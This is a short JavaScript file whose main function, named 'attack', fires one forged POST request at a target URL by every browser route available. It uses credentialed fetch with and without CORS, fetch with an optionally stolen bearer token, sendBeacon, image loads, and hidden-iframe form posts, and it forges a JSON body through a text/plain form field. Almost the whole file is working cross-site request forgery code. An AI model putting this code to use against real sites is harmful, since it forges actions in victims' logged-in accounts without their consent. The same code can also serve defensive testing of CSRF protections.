/**
 * Tries in every way that a page has to make a browser send a change.
 *
 * @param wanted `url`, `body`, and possibly a `token` that was stolen
 * @returns each way, and what the page could learn of it
 */
globalThis.attack = async ({ url, body, token }) => {
  const gained = [];
  const attempt = async (way, send) => {
    try {
      gained.push([way, String(await send())]);
    } catch (error) {
      gained.push([way, error.name]);
    }
  };
  const seen = async (init) => {
    const answer = await fetch(url, init);
    return `${answer.type} ${answer.status}`;
  };
  const headers = {
    "Content-Type": "application/json",
    ...(token && { Authorization: `Bearer ${token}` }),
  };
  const post = { method: "POST", body, credentials: "include" };
  await attempt("blind", () => seen({ ...post, mode: "no-cors" }));
  await attempt("plain", () => seen(post));
  await attempt("as JSON", () => seen({ ...post, headers }));
  await attempt(
    "blind as JSON",
    () => seen({ ...post, mode: "no-cors", headers }),
  );
  await attempt("beacon", () => {
    const text = new Blob([body], { type: "text/plain" });
    return navigator.sendBeacon(url, text);
  });
  await attempt("image", () =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = () => resolve("loaded");
      image.onerror = () => resolve("failed");
      image.src = url;
    }));
  for (
    const type of [
      "text/plain",
      "application/x-www-form-urlencoded",
      "multipart/form-data",
    ]
  ) {
    await attempt(`form of ${type}`, () => submitted(url, body, type));
  }
  return gained;
};

/** Sends a form into a frame; resolves with whether the page may look into its answer. */
function submitted(url, body, type) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "answer";
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: url, enctype: type });
    form.target = frame.name;
    // As plain text, name=value is JSON whose last member swallows the sign between.
    const field = document.createElement("input");
    field.name = `${body.slice(0, -1)},"x":"`;
    field.value = '"}';
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => {
      const isOpen = frame.contentDocument !== null;
      frame.remove();
      form.remove();
      resolve(isOpen ? "readable" : "unreadable");
    };
    form.submit();
  });
}
